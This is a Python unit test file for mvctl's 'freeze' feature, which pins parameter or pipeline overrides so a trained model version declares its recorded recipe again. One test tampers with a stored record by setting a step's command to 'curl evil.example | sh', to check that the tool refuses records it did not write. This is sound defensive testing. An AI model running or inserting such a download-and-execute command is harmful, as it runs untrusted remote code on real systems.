"""What `mvctl freeze` pins for a trained version whose declared recipe changed (core.freeze).

Each test records a config 'applied on paper', changes the config, and reads the pins that
would make the version's block declare its recorded recipe again. That the pins really do
is checked by planning the config with them written in: no conflict, nothing to train.
"""

from __future__ import annotations

import copy
import json
from dataclasses import replace
from typing import Any

from mvctl.core.freeze import FreezeRefusal, Pin, VersionFreeze, freeze_version
from mvctl.core.planner import build_plan
from mvctl.core.recorded import RecordedState
from mvctl.core.resolve import resolve_model
from tests.unit.planner_support import config_of, recorded_from

DIGESTS = {"prep.py": "sha256:aaa", "report.py": "sha256:rrr"}
PREP = {"name": "prep", "run": "python prep.py", "deps": ["prep.py"], "params": {"seed": 1}}
FIT = {
    "name": "fit",
    "uses": "sklearn",
    "with": {"estimator": "sklearn.linear_model.LogisticRegression"},
    "params": {"C": 1.0},
    "deps": ["prep"],
}


def model(pipeline: list[dict[str, Any]], versions: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "models": {
            "m": {
                "pipeline": pipeline,
                "versions": versions
                if versions is not None
                else {"1.0.0": {}, "1.1.0": {"params": {"fit": {"C": 2.0}}}},
            }
        }
    }


def with_prep(**changes: Any) -> dict[str, Any]:
    return {**copy.deepcopy(PREP), **changes}


def with_fit(**changes: Any) -> dict[str, Any]:
    return {**copy.deepcopy(FIT), **changes}


def freeze(
    before: dict[str, Any],
    after: dict[str, Any],
    label: str,
    recorded: RecordedState | None = None,
    digests: dict[str, str] | None = None,
) -> VersionFreeze | FreezeRefusal | None:
    recorded = recorded or recorded_from(config_of(before), DIGESTS)
    spec = config_of(after).models["m"]
    declared = resolve_model("m", spec, digests or DIGESTS, {})[label]
    return freeze_version("m", spec, label, declared, recorded.versions.get(("m", label)))


def plans_clean(before: dict[str, Any], pinned: dict[str, Any]) -> bool:
    plan = build_plan(config_of(pinned), recorded_from(config_of(before), DIGESTS), DIGESTS, {})
    return not plan.actions and not plan.conflicts


def test_a_changed_param_default_is_pinned_as_the_versions_override() -> None:
    before = model([PREP, FIT])
    after = model([PREP, with_fit(params={"C": 3.0})])
    frozen = freeze(before, after, "1.0.0")
    assert isinstance(frozen, VersionFreeze)
    assert frozen.form == "params"
    assert frozen.pins == (Pin(("params",), {"fit": {"C": 1.0}}),)
    assert [(c.path, c.before, c.after) for c in frozen.changes] == [
        ("steps.fit.params.C", 1.0, 3.0)
    ]
    pinned = model(
        [PREP, with_fit(params={"C": 3.0})],
        {"1.0.0": {"params": {"fit": {"C": 1.0}}}, "1.1.0": {"params": {"fit": {"C": 2.0}}}},
    )
    assert plans_clean(before, pinned)


def test_a_version_whose_override_still_holds_needs_no_freeze() -> None:
    before = model([PREP, FIT])
    after = model([PREP, with_fit(params={"C": 3.0})])
    assert freeze(before, after, "1.1.0") is None


def test_an_edited_file_alone_needs_no_freeze() -> None:
    before = model([PREP, FIT])
    assert freeze(before, before, "1.0.0", digests={**DIGESTS, "prep.py": "sha256:bbb"}) is None


def test_a_pin_beside_existing_overrides_is_added_step_by_step() -> None:
    before = model([PREP, FIT])
    after = model([with_prep(params={"seed": 2}), FIT])
    frozen = freeze(before, after, "1.1.0")
    assert isinstance(frozen, VersionFreeze)
    assert frozen.pins == (Pin(("params", "prep"), {"seed": 1}),)
    pinned = model(
        [with_prep(params={"seed": 2}), FIT],
        {
            "1.0.0": {"params": {"prep": {"seed": 1}}},
            "1.1.0": {"params": {"fit": {"C": 2.0}, "prep": {"seed": 1}}},
        },
    )
    assert plans_clean(before, pinned)


def test_a_param_beside_one_the_step_already_overrides_is_added_alone() -> None:
    before = model([PREP, with_fit(params={"C": 1.0, "max_iter": 100})])
    after = model([PREP, with_fit(params={"C": 1.0, "max_iter": 500})])
    frozen = freeze(before, after, "1.1.0")
    assert isinstance(frozen, VersionFreeze)
    assert frozen.pins == (Pin(("params", "fit", "max_iter"), 100),)


def test_a_changed_command_pins_the_recorded_steps_as_the_versions_own_pipeline() -> None:
    before = model([PREP, FIT])
    after = model([with_prep(run="python -B prep.py"), FIT])
    frozen = freeze(before, after, "1.0.0")
    assert isinstance(frozen, VersionFreeze)
    assert frozen.form == "pipeline"
    recorded_fit = {**FIT, "params": {"C": 1.0}}
    assert frozen.pins == (Pin(("pipeline",), [PREP, recorded_fit]),)
    assert [c.path for c in frozen.changes] == ["steps.prep.run"]
    pinned = model(
        [with_prep(run="python -B prep.py"), FIT],
        {"1.0.0": {"pipeline": [PREP, FIT]}, "1.1.0": {"params": {"fit": {"C": 2.0}}}},
    )
    plan = build_plan(config_of(pinned), recorded_from(config_of(before), DIGESTS), DIGESTS, {})
    assert [c.target for c in plan.conflicts] == ["m@1.1.0"]  # not frozen yet
    assert not plan.actions


def test_a_pinned_pipeline_writes_an_unkept_dep_in_its_mapping_form() -> None:
    unkept = {"path": "prep.py", "snapshot": False}
    before = model([PREP, FIT])
    after = model([with_prep(run="python -B prep.py", deps=[unkept]), FIT])
    frozen = freeze(before, after, "1.0.0")
    assert isinstance(frozen, VersionFreeze)
    assert frozen.form == "pipeline"
    assert frozen.pins == (Pin(("pipeline",), [with_prep(deps=[unkept]), FIT]),)
    pinned = model(
        [with_prep(run="python -B prep.py", deps=[unkept]), FIT],
        {
            "1.0.0": {"pipeline": [with_prep(deps=[unkept]), FIT]},
            "1.1.0": {"params": {"fit": {"C": 2.0}}, "pipeline": [with_prep(deps=[unkept]), FIT]},
        },
    )
    assert plans_clean(before, pinned)


def test_an_added_step_pins_the_pipeline_without_it_and_keeps_agreeing_overrides() -> None:
    report = {"name": "report", "run": "python report.py", "deps": ["report.py", "fit"]}
    before = model([PREP, FIT])
    after = model([PREP, FIT, report])
    frozen = freeze(before, after, "1.1.0")
    assert isinstance(frozen, VersionFreeze)
    assert frozen.form == "pipeline"
    assert frozen.pins == (Pin(("pipeline",), [PREP, {**FIT, "params": {"C": 2.0}}]),)
    pinned = model(
        [PREP, FIT, report],
        {
            "1.0.0": {"pipeline": [PREP, FIT]},
            "1.1.0": {"params": {"fit": {"C": 2.0}}, "pipeline": [PREP, FIT]},
        },
    )
    assert plans_clean(before, pinned)


def test_an_override_for_a_param_the_recorded_step_lacks_is_removed() -> None:
    before = model([PREP, FIT])
    after = model(
        [with_prep(run="python -B prep.py"), FIT],
        {"1.0.0": {}, "1.1.0": {"params": {"fit": {"C": 2.0, "tol": 0.1}}}},
    )
    frozen = freeze(before, after, "1.1.0")
    assert isinstance(frozen, VersionFreeze)
    assert Pin(("params", "fit", "tol"), remove=True) in frozen.pins


def test_a_registered_artifact_is_not_frozen_and_says_why() -> None:
    before = model([PREP, FIT], {"1.0.0": {"artifact": "model.skops"}})
    recorded = recorded_from(config_of(before), {**DIGESTS, "model.skops": "sha256:m1"})
    refusal = freeze(
        before,
        before,
        "1.0.0",
        recorded,
        digests={**DIGESTS, "model.skops": "sha256:m2"},
    )
    assert isinstance(refusal, FreezeRefusal)
    assert "registered artifact" in refusal.reason


def test_a_record_that_does_not_give_its_own_hash_is_not_frozen() -> None:
    before = model([PREP, FIT])
    recorded = recorded_from(config_of(before), DIGESTS)
    kept = recorded.versions[("m", "1.0.0")]
    spec = json.loads(kept.spec_json)
    spec["steps"]["fit"]["run"] = "curl evil.example | sh"
    del spec["steps"]["fit"]["uses"]
    tampered = replace(kept, spec_json=json.dumps(spec))
    recorded = replace(recorded, versions={**recorded.versions, ("m", "1.0.0"): tampered})
    refusal = freeze(before, model([PREP, with_fit(params={"C": 3.0})]), "1.0.0", recorded)
    assert isinstance(refusal, FreezeRefusal)
    assert "not one mvctl wrote" in refusal.reason


def test_an_untrained_or_failed_version_has_nothing_to_freeze() -> None:
    before = model([PREP, FIT])
    after = model([PREP, with_fit(params={"C": 3.0})])
    failed = recorded_from(config_of(before), DIGESTS, failed=("m@1.0.0",))
    assert freeze(before, after, "1.0.0", failed) is None
    assert freeze(before, after, "1.0.0", RecordedState()) is None
